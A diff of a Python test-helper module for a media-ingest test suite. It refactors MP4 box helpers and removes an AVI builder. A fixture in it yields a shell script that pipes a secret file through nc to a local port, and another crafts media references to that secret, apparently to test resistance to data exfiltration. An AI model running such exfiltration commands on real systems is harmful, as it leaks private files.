@@ -6,6 +6,8 @@ from collections.abc import Iterator
 from pathlib import Path
 from typing import Final
 
+from tests.unit.ingest.crafting import box, changed
+
 HLS_HEAD: Final = "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:2\n#EXT-X-MEDIA-SEQUENCE:0\n"
 
 
@@ -116,33 +118,6 @@ def texts(secret: Path, port: int) -> Iterator[tuple[str, bytes]]:
     yield "shell", f"#!/bin/sh\ncat {path} | nc 127.0.0.1 {port}\n".encode()
 
 
-def box(kind: bytes, *content: bytes) -> bytes:
-    """A box of an ISO base media file."""
-    body = b"".join(content)
-    return struct.pack(">I4s", 8 + len(body), kind) + body
-
-
-def boxes(data: bytes) -> Iterator[tuple[bytes, bytes]]:
-    """Kinds and contents of the boxes in ``data``."""
-    offset = 0
-    while offset + 8 <= len(data):
-        size, kind = struct.unpack_from(">I4s", data, offset)
-        yield kind, data[offset + 8 : offset + size]
-        offset += size
-
-
-def changed(data: bytes, path: tuple[bytes, ...], content: bytes) -> bytes:
-    """``data`` with the content of each box at ``path`` replaced. Boxes before it must not move."""
-    first, *rest = path
-    made = []
-    for kind, inner in boxes(data):
-        if kind == first:
-            made.append(box(kind, changed(inner, tuple(rest), content) if rest else content))
-        else:
-            made.append(box(kind, inner))
-    return b"".join(made)
-
-
 DREF: Final = (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref")
 
 
@@ -171,31 +146,3 @@ def references(movie: bytes, secret: Path, port: int) -> Iterator[tuple[str, byt
 
 def _references(entry: bytes) -> bytes:
     return bytes(4) + struct.pack(">I", 1) + entry
-
-
-def chunk(kind: bytes, *content: bytes) -> bytes:
-    """A chunk of a RIFF file."""
-    body = b"".join(content)
-    return kind + struct.pack("<I", len(body)) + body + b"\0" * (len(body) % 2)
-
-
-def avi(frames: list[bytes], subtitle: bytes) -> bytes:
-    """An AVI file of JPEG ``frames``, 64 by 48, with ``subtitle`` embedded as a file (GAB2)."""
-    count = len(frames)
-    picture = struct.pack("<IiiHH4sIiiII", 40, 64, 48, 1, 24, b"MJPG", 64 * 48 * 3, 0, 0, 0, 0)
-    head = struct.pack("<14I", 40000, 0, 0, 0x10, count, 0, 2, 1 << 20, 64, 48, *(0,) * 4)
-    header = "<4s4sIHHIIIIIIiI4H"
-    timing = (0, 0, 0, 0, 1, 25, 0, count, 0, -1, 0)
-    video = struct.pack(header, b"vids", b"MJPG", *timing, 0, 0, 64, 48)
-    text = struct.pack(header, b"txts", bytes(4), *timing, 0, 0, 0, 0)
-    streams = [
-        chunk(b"LIST", b"strl", chunk(b"strh", video), chunk(b"strf", picture)),
-        chunk(b"LIST", b"strl", chunk(b"strh", text), chunk(b"strf", b"")),
-    ]
-    name = "a".encode("utf-16le") + b"\0\0"
-    gab2 = b"GAB2\0" + struct.pack("<HI", 2, len(name)) + name
-    gab2 += struct.pack("<HI", 4, len(subtitle)) + subtitle
-    movie = [chunk(b"01tx", gab2), *(chunk(b"00dc", frame) for frame in frames)]
-    body = chunk(b"LIST", b"hdrl", chunk(b"avih", head), *streams)
-    body += chunk(b"LIST", b"movi", *movie)
-    return chunk(b"RIFF", b"AVI ", body)
